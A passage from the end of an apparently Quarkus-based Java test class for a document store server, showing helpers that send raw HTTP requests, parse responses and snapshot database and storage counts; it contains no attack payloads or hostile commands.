                    out.write("\r\n".getBytes(StandardCharsets.US_ASCII));
                }
                out.write("0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
                out.flush();
            } catch (IOException refusedWhileSending) {
                // the server answered and closed before the whole body arrived; its answer is still readable
            }
            return parse(socket.getInputStream());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private Answer sendRaw(byte[] request) {
        try (Socket socket = new Socket(server.getHost(), server.getPort())) {
            socket.setSoTimeout(30_000);
            socket.getOutputStream().write(request);
            socket.getOutputStream().flush();
            return parse(socket.getInputStream());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Status line, Content-Type and body of one HTTP/1.1 response (the server closes after a refusal). */
    private static Answer parse(InputStream in) throws IOException {
        ByteArrayOutputStream buffer = new ByteArrayOutputStream();
        byte[] chunk = new byte[8192];
        for (int read = in.read(chunk); read > 0; read = in.read(chunk)) {
            buffer.write(chunk, 0, read);
            if (looksComplete(buffer.toString(StandardCharsets.ISO_8859_1))) {
                break;
            }
        }
        String response = buffer.toString(StandardCharsets.UTF_8);
        if (response.isEmpty()) {
            return new Answer(0, null, "the connection was closed without an answer");
        }
        int headersEnd = response.indexOf("\r\n\r\n");
        String head = headersEnd < 0 ? response : response.substring(0, headersEnd);
        String contentType = head.lines().filter(line -> line.toLowerCase().startsWith("content-type:"))
                .map(line -> line.substring("content-type:".length()).strip()).findFirst().orElse(null);
        int status = Integer.parseInt(head.split(" ")[1]);
        return new Answer(status, contentType, headersEnd < 0 ? "" : response.substring(headersEnd + 4));
    }

    private static boolean looksComplete(String response) {
        int headersEnd = response.indexOf("\r\n\r\n");
        if (headersEnd < 0) {
            return false;
        }
        return response.lines().filter(line -> line.toLowerCase().startsWith("content-length:")).findFirst()
                .map(line -> response.length() - headersEnd - 4 >= Integer.parseInt(line.substring(15).strip()))
                .orElse(true);
    }

    /** Paths go out exactly as written: percent-escapes, dots and all. */
    private static RequestSpecification raw() {
        return raw(given());
    }

    private static RequestSpecification raw(RequestSpecification request) {
        return request.urlEncodingEnabled(false);
    }

    private static byte[] bytes(int... values) {
        byte[] bytes = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }

    private State state() {
        long storeObjects;
        try (Stream<Path> files = Files.walk(((FileSystemBackend) store.backend()).root())) {
            storeObjects = files.filter(p -> p.getFileName().toString().equals("0=ocfl_object_1.1")).count();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return QuarkusTransaction.requiringNew().call(() -> new State(Document.count(), DocumentVersion.count(),
                storeObjects, Account.count(), ApiToken.count(), ((Number) Document.getEntityManager()
                        .createNativeQuery("select count(*) from write_intent").getSingleResult()).longValue()));
    }
}
